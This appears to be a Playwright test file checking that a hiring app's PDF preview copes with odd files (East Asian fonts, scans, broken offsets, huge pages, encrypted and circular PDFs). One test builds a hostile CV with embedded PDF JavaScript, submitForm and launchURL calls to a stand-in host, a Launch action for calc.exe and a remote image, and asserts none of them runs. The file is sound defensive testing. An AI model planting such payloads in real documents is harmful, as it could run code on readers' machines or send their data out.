import type { Page } from '@playwright/test'
import { addApplicant } from './support/applicants.ts'
import { expectAccessible } from './support/axe.ts'
import { expectPath, title } from './support/pages.ts'
import { pdfOf, stream } from './support/pdf.ts'
import type { Person } from './support/people.ts'
import { expect, test } from './support/test.ts'

test.use({ as: 'Admin' })

const words = (text: string) => stream(`BT /F1 24 Tf 72 720 Td (${text}) Tj ET`)
const helvetica = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const sheetOf = (contents: string, rest = '') =>
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>/XObject<</I1 6 0 R>>>>/Contents ${contents}${rest}>>`
const catalog = '<</Type/Catalog/Pages 2 0 R>>'
const onePage = '<</Type/Pages/Count 1/Kids[4 0 R]>>'

/** Opens the profile of an applicant who sent these files. The first one is the CV, which is shown. */
async function openApplicant(page: Page, superadmin: Person, files: Record<string, Buffer>) {
  const [CV, ...otherFiles] = Object.entries(files).map(([name, buffer]) => ({
    name,
    mimeType: 'application/pdf',
    buffer,
  }))
  const { uuid, name } = await addApplicant(superadmin, { ...(CV && { CV }), otherFiles })
  await page.goto(`/applicants/profile?uuid=${uuid}`)
  await expect(title(page, name)).toBeVisible()
}
const previewOf = (page: Page, name: string) => page.getByRole('group', { name: `Preview of ${name}` })
async function show(page: Page, name: string) {
  await page.getByRole('button', { name, exact: true }).click()
  return previewOf(page, name)
}

// A CV in East Asian letters whose font the file doesn't embed.
const eastAsian = pdfOf([
  catalog,
  onePage,
  '<</Type/Font/Subtype/Type0/BaseFont/KozMinPro-Regular/Encoding/90ms-RKSJ-H/DescendantFonts[5 0 R]>>',
  sheetOf('7 0 R'),
  '<</Type/Font/Subtype/CIDFontType0/BaseFont/KozMinPro-Regular/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>/FontDescriptor 6 0 R>>',
  '<</Type/FontDescriptor/FontName/KozMinPro-Regular/Flags 4/FontBBox[0 -120 1000 880]/ItalicAngle 0/Ascent 880/Descent -120/CapHeight 740/StemV 80>>',
  // 日本語 in Shift JIS.
  stream('BT /F1 24 Tf 72 720 Td <93FA967B8CEA> Tj ET'),
])

// Image formats of scanners and cameras. 16 × 16 pixels of a single red.
const jpeg2000 =
  '/0//UQAvAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAADBwEBBwEBBwEB/1IADAAAAAEBAAQEAAH/XAAEQED/kAAKAAAAAAB1AAH/k8fUPhFQVK/fR7K3AAAAAGEhL9rEQAAAwkJftpkAAAGEhL/B8g8UAFyv9JywPAAAAABhIS/fgYAUAFyv9JywPAAAAABhIS/axEAAAMJCX7aZAAABhIS/bTIAAAMJCX7aZAAABhIS/3//2Q=='
// Eight lines of eight black pixels in fax encoding.
const fax = String.fromCharCode(0b00100110, 0b10100010, 0b11111111, 0b11111100, 0b00000000, 0b01000000, 0b00000100)
const image = (rest: string, size: number) => `/Type/XObject/Subtype/Image/Width ${size}/Height ${size}${rest}`
const scan = pdfOf([
  catalog,
  onePage,
  helvetica,
  sheetOf('5 0 R').replace('/I1 6 0 R', '/I1 6 0 R/I2 7 0 R'),
  stream('q 595 0 0 421 0 421 cm /I1 Do Q q 595 0 0 421 0 0 cm /I2 Do Q BT /F1 9 Tf 10 10 Td 1 g (A scan) Tj ET'),
  stream(atob(jpeg2000), image('/Filter/JPXDecode/ColorSpace/DeviceRGB/BitsPerComponent 8', 16)),
  stream(
    fax,
    image('/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 8/Rows 8>>/ColorSpace/DeviceGray/BitsPerComponent 1', 8),
  ),
])

const wrongOffsets = Buffer.from(
  pdfOf([catalog, onePage, helvetica, sheetOf('5 0 R'), words('Found again')])
    .toString('latin1')
    .replace(/\d{10} 00000 n/g, '9999999999 00000 n')
    .replace(/startxref\n\d+/, 'startxref\n-7'),
)
const thousandMillionPages = pdfOf([
  catalog,
  onePage.replace('/Count 1', '/Count 1000000000'),
  helvetica,
  sheetOf('5 0 R'),
  words('The only one'),
])
const hugePage = pdfOf([
  catalog,
  onePage,
  helvetica,
  sheetOf('5 0 R').replace('0 0 595 842', '0 0 100000000 100000000'),
  words('x'),
])

test(
  'unusual PDF files are shown: East Asian letters, scans, wrong offsets, huge pages, a wrong page count',
  { tag: '@all' },
  async ({ page, superadmin }) => {
    await openApplicant(page, superadmin, {
      'letters.pdf': eastAsian,
      'scan.pdf': scan,
      'offsets.pdf': wrongOffsets,
      'pages.pdf': thousandMillionPages,
      'huge.pdf': hugePage,
    })
    await expect(previewOf(page, 'letters.pdf').getByText('日本語')).toBeVisible()

    const scanned = await show(page, 'scan.pdf')
    await expect(scanned.getByText('A scan')).toBeVisible()
    const colourAt = (height: number) =>
      scanned.locator('canvas').evaluate((canvas, part) => {
        if (!(canvas instanceof HTMLCanvasElement) || canvas.width === 0) return undefined
        const { data } = canvas.getContext('2d')!.getImageData(canvas.width / 2, canvas.height * part, 1, 1)
        return [...data]
      }, height)
    await expect.poll(() => colourAt(0.25)).toEqual([200, 30, 40, 255])
    await expect.poll(() => colourAt(0.75)).toEqual([0, 0, 0, 255])

    await expect((await show(page, 'offsets.pdf')).getByText('Found again')).toBeVisible()

    const counted = await show(page, 'pages.pdf')
    await expect(counted.getByText('The only one')).toBeVisible()
    await expect(counted.getByText('Page 1 of 1')).toBeVisible()

    const huge = await show(page, 'huge.pdf')
    const canvas = huge.locator('canvas')
    await expect.poll(() => canvas.evaluate(({ clientWidth }) => clientWidth)).toBeGreaterThan(100)
    for (let press = 0; press < 3; press++) await huge.getByRole('button', { name: 'Zoom in' }).click()
    await expect(huge.getByRole('status', { name: 'Zoom' })).toHaveText('130%')
    const pixels = await canvas.evaluate((element) => {
      const { width, height } = element as HTMLCanvasElement
      return width * height
    })
    expect(pixels).toBeLessThanOrEqual(16_000_000)

    // The worker that reads a file stops when its page closes.
    expect(page.workers()).toHaveLength(1)
    await page.getByRole('link', { name: 'Back to list' }).click()
    await expectPath(page, '/applicants')
    await expect.poll(() => page.workers().length).toBe(0)
  },
)

test(
  'a hostile CV runs nothing and calls no other server',
  { tag: '@all' },
  async ({ page, context, superadmin, baseURL }) => {
    const asked = new Set<string>()
    context.on('request', (request) => asked.add(new URL(request.url()).origin))
    const happened: string[] = []
    page.on('dialog', async (dialog) => {
      happened.push(dialog.message())
      await dialog.dismiss()
    })
    context.on('page', (opened) => happened.push(opened.url()))
    page.on('download', () => happened.push('download'))
    const elsewhere = 'http://elsewhere.example'
    const script =
      '(app.alert\\(1\\); this.submitForm\\("http://elsewhere.example/"\\); app.launchURL\\("http://elsewhere.example/"\\))'
    const file = pdfOf([
      `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS ${script}/Next<</S/URI/URI(${elsewhere}/opened)>>>>/AA<</WC<</S/JavaScript/JS ${script}>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS ${script}>>]>>>>/AcroForm<</Fields[7 0 R]/XFA(<xdp><script>app.alert\\(2\\)</script></xdp>)>>>>`,
      onePage,
      helvetica,
      sheetOf(
        '5 0 R',
        `/AA<</O<</S/JavaScript/JS ${script}>>>>/Annots[7 0 R<</Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${elsewhere}/link)>>>><</Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)>>>><</Subtype/Link/Rect[0 0 595 842]/A<</S/SubmitForm/F(${elsewhere}/form)>>>>]`,
      ),
      words('Nothing happens here'),
      // An image to be fetched from another server.
      `<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}/picture)>>/Length 0>>stream\n\nendstream`,
      `<</Subtype/Widget/FT/Tx/T(name)/Rect[0 0 595 842]/AA<</E<</S/JavaScript/JS ${script}>>/F<</S/JavaScript/JS ${script}>>>>>>`,
    ])
    await openApplicant(page, superadmin, { 'cv.pdf': file })
    const preview = previewOf(page, 'cv.pdf')
    const line = preview.getByText('Nothing happens here')
    await expect(line).toBeVisible()
    await line.click()
    await preview.locator('canvas').click({ position: { x: 40, y: 200 }, force: true })
    await preview.getByRole('button', { name: 'Zoom in' }).click()
    await expect(preview.getByRole('status', { name: 'Zoom' })).toHaveText('110%')
    await expect(preview.getByRole('link')).toHaveCount(0)
    await expect(preview.locator('input')).toHaveCount(0)
    expect(happened).toEqual([])
    expect([...asked].filter((origin) => origin !== baseURL && !origin.startsWith('blob:'))).toEqual([])
    await expect(page).toHaveURL(/\/applicants\/profile/)
  },
)

const zeros = '00'.repeat(32)
const protectedByPassword = Buffer.from(
  pdfOf([
    catalog,
    onePage,
    helvetica,
    sheetOf('5 0 R'),
    words('x'),
    `<</Filter/Standard/V 2/R 3/Length 128/P -4/O<${zeros}>/U<${zeros}>>>`,
  ])
    .toString('latin1')
    .replace('/Root 1 0 R', '/Root 1 0 R/Encrypt 6 0 R/ID[<00><00>]'),
  'latin1',
)

test('files that cannot be shown say so, and can be downloaded', { tag: '@all' }, async ({ page, superadmin }) => {
  const files = {
    // A first line without a document.
    'script.pdf': Buffer.from('%PDF-1.4\n<script>alert(1)</script>'),
    'protected.pdf': protectedByPassword,
    // Page nodes that contain each other.
    'circle.pdf': pdfOf([
      catalog,
      '<</Type/Pages/Count 9/Kids[3 0 R]>>',
      '<</Type/Pages/Parent 2 0 R/Count 9/Kids[2 0 R]>>',
    ]),
    'wide-and-flat.pdf': pdfOf([
      catalog,
      onePage,
      helvetica,
      sheetOf('5 0 R').replace('0 0 595 842', '0 0 1000000000 0.001'),
      words('x'),
    ]),
  }
  await openApplicant(page, superadmin, files)
  const reasons: Record<string, string> = {
    'script.pdf': 'This PDF is damaged',
    'protected.pdf': 'This PDF is protected by a password',
  }
  for (const name of Object.keys(files)) {
    await page.getByRole('button', { name, exact: true }).click()
    await expect(page.getByRole('main').getByText(reasons[name] ?? 'This file could not be shown')).toBeVisible()
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download', exact: true }).click(),
    ])
    expect(download.suggestedFilename()).toBe(name)
  }
  await expectAccessible(page)
})
